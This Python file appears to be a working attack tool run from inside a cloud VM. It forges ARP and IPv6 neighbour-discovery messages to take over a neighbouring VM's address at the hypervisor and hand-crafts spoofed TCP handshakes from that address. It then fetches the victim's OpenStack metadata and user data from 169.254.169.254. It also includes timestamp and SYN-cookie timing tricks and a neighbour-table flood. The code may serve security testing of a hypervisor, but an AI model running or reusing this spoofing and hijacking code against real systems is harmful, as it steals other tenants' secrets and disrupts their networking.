"""
A VM that pretends to be its neighbour: raw frames, forged ARP and neighbour discovery,
and every timing.

Runs inside the attacker's namespace and speaks JSON on stdin and stdout; standard
library only.  It wants what another VM on its bridge would get, so it uses that VM's
address, and turns the hypervisor's neighbour entry for it to its own MAC (to get the
answers) and back to the victim's (to look like it), around the steps of a handshake
that it does by hand.  C{learns} in the order are bytes that only the victim may see:
whatever arrives on the wire is searched for them.
"""

from __future__ import annotations

import base64
import json
import random
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import count, islice
from typing import Any

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
_BROADCAST = b"\xff" * 6
#: Nothing that the victim could ask for is left out: each holds its data.
TARGETS = (
    b"/openstack/latest/meta_data.json",
    b"/openstack/latest/user_data",
    b"/latest/meta-data/hostname",
    b"/latest/user-data",
)
#: What a thief adds to the server's time stamp (milliseconds) to pretend that he echoes
#: a later one: less than the second after which a SYN-ACK is sent again, and a multiple
#: of 64, for what lies below is part of a SYN cookie (net/ipv4/syncookies.c).
_AGEING = 960


def octets(mac: str) -> bytes:
    """
    Write a MAC address as it stands on the wire.
    """
    return bytes.fromhex(mac.replace(":", ""))


def checksum(data: bytes) -> int:
    """
    Compute the Internet checksum (RFC 1071).
    """
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def write_stamp(value: int, echo: int) -> bytes:
    """
    Write the option with the time stamps (RFC 7323), aligned as Linux has it.
    """
    return struct.pack("!BBBBII", 1, 1, 8, 10, value, echo)


def read_stamp(options: bytes) -> int:
    """
    Read the sender's time stamp where L{write_stamp}'s form holds one; 0: none.
    """
    _, found, rest = options.partition(b"\x01\x01\x08\x0a")
    return int.from_bytes(rest[:4], "big") if found else 0


@dataclass
class Segment:
    """
    A TCP segment that the server sent to the victim's address.

    @ivar stamp: The server's time stamp; 0: there was none.
    """

    port: int
    seq: int
    flags: int
    payload: bytes
    stamp: int


@dataclass
class Seat:
    """
    The thief's end of a connection whose SYN was answered.

    @ivar seq: The number of the next byte.
    @ivar ack: The number of the server's next byte.
    @ivar options: The TCP options of all that follows.
    """

    port: int
    seq: int
    ack: int
    options: bytes = b""


@dataclass
class Wire:
    """
    The attacker's end of its cable.

    @ivar order: Who is who, as it came on stdin.
    @ivar kind: The EtherType of what instances say.
    @ivar head: The length of an IP header.
    """

    kind = b"\x08\x00"
    head = 20

    order: dict[str, Any]
    cable: socket.socket = field(init=False)

    def __post_init__(self) -> None:
        """
        Open the cable and learn the addresses.
        """
        every_protocol = socket.htons(0x0003)
        self.cable = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, every_protocol)
        self.cable.bind(("eth0", 0))
        self.own, self.victim_mac, self.gateway_mac = (
            octets(self.order[name]) for name in ("own_mac", "victim_mac", "router_mac")
        )
        self.victim, self.gateway, self.server = (
            self.packed(self.order[name]) for name in ("victim", "gateway", "server")
        )

    def packed(self, address: str) -> bytes:
        """
        Write an address as it stands on the wire.
        """
        return socket.inet_aton(address)

    def claim(self, mac: bytes, loudly: bool) -> None:
        """
        Tell the hypervisor that the victim's address is at a MAC.

        @param loudly: By asking for the gateway, which makes an entry where there is
            none; else by a gratuitous reply, which only the hypervisor gets.  Both
            override the kernel's lock time (net/ipv4/arp.c, C{arp_process}).
        """
        operation, target_mac, target = 2, mac, self.victim
        if loudly:
            operation, target_mac, target = 1, bytes(6), self.gateway
        head = (_BROADCAST if loudly else self.gateway_mac) + self.own
        arp = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
        self.cable.send(head + arp + mac + self.victim + target_mac + target)

    def send(self, mac: bytes, seat: Seat, flags: int, data: bytes = b"") -> None:
        """
        Send a TCP segment from the victim's address.

        @param mac: The source of the frame.
        """
        ports = struct.pack("!HH", seat.port, self.order["port"])
        offset = (20 + len(seat.options)) << 2
        tcp = struct.pack("!IIBBHHH", seat.seq, seat.ack, offset, flags, 65535, 0, 0)
        tcp = ports + tcp + seat.options
        total = struct.pack("!H", self.total(6, tcp + data))
        self.deliver(mac, 6, tcp[:16] + total + tcp[18:] + data)

    def total(self, protocol: int, payload: bytes) -> int:
        """
        Compute the checksum of what goes to the server from the victim's address.
        """
        pseudo = struct.pack("!HH", protocol, len(payload))
        return checksum(self.victim + self.server + pseudo + payload)

    def deliver(self, mac: bytes, protocol: int, payload: bytes) -> None:
        """
        Send the server a packet from the victim's address.
        """
        ip = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol)
        addresses = self.victim + self.server
        ip += struct.pack("!H", checksum(ip + b"\0\0" + addresses)) + addresses
        self.cable.send(self.gateway_mac + mac + self.kind + ip + payload)

    def listen(self, seconds: float) -> Iterator[Segment]:
        """
        Take what the server sends to the victim's address, for a time.
        """
        end = time.monotonic() + seconds
        while True:
            left = max(0.0, end - time.monotonic())
            if not select.select([self.cable], [], [], left)[0]:
                return
            segment = self._read(self.cable.recv(65535))
            if segment is not None:
                yield segment

    def _read(self, frame: bytes) -> Segment | None:
        """
        Read a frame, if it is one from the server to the victim's address.
        """
        start = 14 + self.head
        ways = self.server + self.victim
        if frame[12:14] != self.kind or frame[start - len(ways) : start] != ways:
            return None
        tcp = frame[start : 14 + self.length(frame[14:])]
        if len(tcp) < 20:
            return None
        source, port, seq, _, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
        if source != self.order["port"]:
            return None
        start = (offset >> 4) * 4
        stamp = read_stamp(tcp[20:start])
        return Segment(port, seq, flags, tcp[start:], stamp)

    def length(self, ip: bytes) -> int:
        """
        Tell the length of an IP packet; frames may be longer.
        """
        total: int = struct.unpack_from("!H", ip, 2)[0]
        return total


class Wire6(Wire):
    """
    The same where the victim's address is an IPv6 one.
    """

    kind = b"\x86\xdd"
    head = 40

    def packed(self, address: str) -> bytes:
        """
        Write an address as it stands on the wire.
        """
        return socket.inet_pton(socket.AF_INET6, address)

    def claim(self, mac: bytes, loudly: bool) -> None:
        """
        Tell the hypervisor that the victim's address is at a MAC.

        @param loudly: By a solicitation for the server, with the MAC as the source's
            link-layer address, which makes an entry where there is none; else by an
            advertisement that nobody asked for and that overrides (RFC 4861, 4.3 and
            4.4; net/ipv6/ndisc.c, C{ndisc_recv_ns} and C{ndisc_recv_na}).
        """
        if loudly:
            kind, flags, target, option = 135, 0, self.server, 1
        else:
            kind, flags, target, option = 136, 0x20000000, self.victim, 2
        body = struct.pack("!BBHI", kind, 0, 0, flags) + target
        body += struct.pack("!BB", option, 1) + mac
        total = struct.pack("!H", self.total(58, body))
        self.deliver(self.own, 58, body[:2] + total + body[4:])

    def deliver(self, mac: bytes, protocol: int, payload: bytes) -> None:
        """
        Send the server a packet from the victim's address.  What discovers neighbours
        must have a hop limit of 255.
        """
        ip = struct.pack("!IHBB", 6 << 28, len(payload), protocol, 255)
        addresses = self.victim + self.server
        self.cable.send(self.gateway_mac + mac + self.kind + ip + addresses + payload)

    def length(self, ip: bytes) -> int:
        """
        Tell the length of an IP packet; frames may be longer.
        """
        payload: int = struct.unpack_from("!H", ip, 4)[0]
        return self.head + payload


@dataclass
class Plan:
    """
    The timing of one attempt; all pauses in seconds.

    @ivar forged: Whether the frames carry the victim's MAC or the attacker's own.
    @ivar loudly: How the neighbour entry is turned.
    @ivar settle: After the entry was turned to the attacker, before SYN.
    @ivar disguise: After SYN-ACK, before the entry is turned to the victim; C{None}:
        it stays at the attacker.
    @ivar accept: Before the handshake's last ACK.
    @ivar ask: Before the request.
    @ivar unmask: After the request, before the entry is turned to the attacker again.
    @ivar patience: For how long to listen then.
    @ivar early: Turn the entry to the attacker again before the request, not after.
    @ivar polite: Whether to reset the connection in the end.
    @ivar stamped: Whether to use TCP time stamps.
    """

    forged: bool
    loudly: bool
    settle: float
    disguise: float | None
    accept: float
    ask: float
    unmask: float
    patience: float
    early: bool
    polite: bool
    stamped: bool = False


def pause(dice: random.Random) -> float:
    """
    Choose a pause: none, or anything from 20 µs to 20 ms, short ones as often as long.
    """
    if dice.random() < 0.25:
        return 0.0
    return float(2e-5 * 1000 ** dice.random())


def plans(dice: random.Random, times: int) -> Iterator[Plan]:
    """
    Choose the timings of a number of attempts.
    """
    for _ in range(times):
        forged = dice.random() < 0.8
        yield Plan(
            forged=forged,
            loudly=dice.random() < 0.3,
            settle=pause(dice),
            disguise=pause(dice) if dice.random() < 0.9 else None,
            accept=pause(dice),
            ask=pause(dice),
            unmask=pause(dice),
            # The server's first retransmission comes after 200 ms.
            patience=0.5 if dice.random() < 0.08 else 0.012,
            early=dice.random() < 0.3,
            polite=dice.random() < 0.8,
        )


@dataclass
class Attack:
    """
    All attempts, and what came of them.

    @ivar heard: All that the server sent, by the port it was sent to.
    @ivar counts: How attempts went.
    """

    wire: Wire
    dice: random.Random
    heard: dict[int, bytearray] = field(default_factory=dict)
    counts: Counter[str] = field(default_factory=Counter)

    def listen(self, seconds: float) -> list[Segment]:
        """
        Wait, and keep all that comes.
        """
        segments = list(self.wire.listen(seconds))
        for segment in segments:
            self.heard.setdefault(segment.port, bytearray()).extend(segment.payload)
            if segment.flags & RST:
                self.counts["aborted"] += 1
        return segments

    def handshake(self, plan: Plan, mac: bytes, port: int) -> Seat | None:
        """
        Send SYN and wait for the server's answer.

        @return: What the thief has then, if the answer came here.
        """
        seq = self.dice.randrange(1 << 31)
        self.counts["attempts"] += 1
        self.wire.claim(self.wire.own, plan.loudly)
        self.listen(plan.settle)
        options = write_stamp(1, 0) if plan.stamped else b""
        self.wire.send(mac, Seat(port, seq, 0, options), SYN)
        for _ in range(5):
            for segment in self.listen(0.005):
                if segment.port == port and segment.flags & (SYN | ACK) == SYN | ACK:
                    self.counts["handshakes"] += 1
                    if segment.stamp:
                        self.counts["stamped"] += 1
                        options = write_stamp(1, segment.stamp + _AGEING)
                    return Seat(port, seq + 1, segment.seq + 1, options)
        return None

    def attempt(self, plan: Plan, port: int) -> None:
        """
        Try once.
        """
        wire = self.wire
        mac = wire.victim_mac if plan.forged else wire.own
        seat = self.handshake(plan, mac, port)
        if seat is None:
            return
        if plan.disguise is not None:
            self.listen(plan.disguise)
            wire.claim(wire.victim_mac, plan.loudly)
        self.listen(plan.accept)
        wire.send(mac, seat, ACK)
        self.listen(plan.ask)
        if plan.early:
            wire.claim(wire.own, plan.loudly)
        question = self.question()
        wire.send(mac, seat, PSH | ACK, question)
        self.listen(plan.unmask)
        if not plan.early:
            wire.claim(wire.own, plan.loudly)
        self.listen(plan.patience)
        if plan.polite:
            wire.send(mac, Seat(port, seat.seq + len(question), 0), RST)

    def question(self) -> bytes:
        """
        Write a request for something that only the victim may see.
        """
        close = self.dice.choice((b"", b"Connection: close\r\n"))
        return b"GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\n%s\r\n" % (
            self.dice.choice(TARGETS),
            close,
        )

    def hurry(self, times: int) -> None:
        """
        Try again and again, each time from another port.

        C{calm} in the order is how many seconds to look like the victim in the end.
        """
        first = 20000 + self.dice.randrange(1000)
        for port, plan in enumerate(plans(self.dice, times), first):
            self.attempt(plan, port)
        # What is held is perhaps let go once the entry has been the victim's for a
        # while.
        self.wire.claim(self.wire.victim_mac, loudly=True)
        self.listen(self.wire.order.get("calm", 3.0))
        self.wire.claim(self.wire.own, loudly=True)
        self.listen(0.7)

    def besiege(self, rounds: int, connections: int = 6) -> None:
        """
        Try with patience: shake hands, look like the victim until nobody remembers
        that it was otherwise, ask, and be there when the answers are sent again.

        The order says in which of three ways, which go together.  C{late}: the last ACK
        of the handshake comes only when all is calm; where the kernel can't measure
        the way then, it sends its answer again much later.  C{fin}: the request ends
        what the client says, so that the server closes at once, and only the kernel
        holds the answer.  C{stamped}: the time stamps tell that the SYN-ACK which is
        answered was sent a second later than it was, and the handshake looks young.

        @param connections: How many at a time; they share the neighbour entry.
        """
        wire, dice = self.wire, self.dice
        late, fin = (wire.order.get(name, False) for name in ("late", "fin"))
        ports = count(30000 + dice.randrange(1000))
        for _ in range(rounds):
            opened = list(self.open(islice(ports, connections)))
            wire.claim(wire.victim_mac, loudly=False)
            if not late:
                self.send_all(opened, ACK)
            self.listen(dice.uniform(1.8, 3.2))
            if late:
                self.send_all(opened, ACK)
            self.send_all(opened, PSH | ACK | (FIN if fin else 0))
            self.listen(dice.uniform(0.0, 0.15))
            wire.claim(wire.own, loudly=False)
            self.listen(3.5 if late else 0.7)

    def open(self, ports: Iterator[int]) -> Iterator[Seat]:
        """
        Get the server's answer to SYN for a number of connections.

        @return: What the thief has of those that it came for.
        """
        stamped = self.wire.order.get("stamped", False)
        plan = Plan(True, False, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, False, False, stamped)
        for port in ports:
            seat = self.handshake(plan, self.wire.victim_mac, port)
            if seat is not None:
                yield seat

    def send_all(self, opened: list[Seat], flags: int) -> None:
        """
        Send a segment on each connection; with C{PSH} it is a request.
        """
        for seat in opened:
            data = self.question() if flags & PSH else b""
            self.wire.send(self.wire.victim_mac, seat, flags, data)

    def flood(self, seconds: float) -> None:
        """
        Turn the entry back and forth without end.

        @param seconds: For how long.
        """
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.counts["turns"] += 2
            try:
                for mac in (self.wire.own, self.wire.victim_mac):
                    self.wire.claim(mac, loudly=True)
            except OSError:
                # The cable takes no more at this moment.
                self.counts["full"] += 1

    def report(self) -> dict[str, Any]:
        """
        Say what was seen.

        @return: C{counts}; C{statuses}, how often each response status came; C{leaks},
            how many connections brought bytes that only the victim may see; C{own}, how
            many brought what is the attacker's own.
        """
        learns, knows = (
            [base64.b64decode(text) for text in self.wire.order.get(name, ())]
            for name in ("learns", "knows")
        )
        statuses: Counter[str] = Counter()
        leaks = own = 0
        for data in self.heard.values():
            if data:
                statuses[data[9:12].decode("latin-1")] += 1
            leaks += any(secret in data for secret in learns)
            own += any(secret in data for secret in knows)
        return {
            "counts": self.counts,
            "statuses": statuses,
            "leaks": leaks,
            "own": own,
        }


def main() -> None:
    """
    Attack as stdin says.
    """
    order = json.load(sys.stdin)
    wire = (Wire6 if ":" in order["victim"] else Wire)(order)
    if order["act"] == "claim":
        wire.claim(wire.own, loudly=True)
        return
    attack = Attack(wire, random.Random(order["seed"]))
    acts: dict[str, Callable[[int], None]] = {
        "hurry": attack.hurry,
        "besiege": attack.besiege,
        "flood": attack.flood,
    }
    acts[order["act"]](order["rounds"])
    print(json.dumps(attack.report()))


if __name__ == "__main__":
    main()
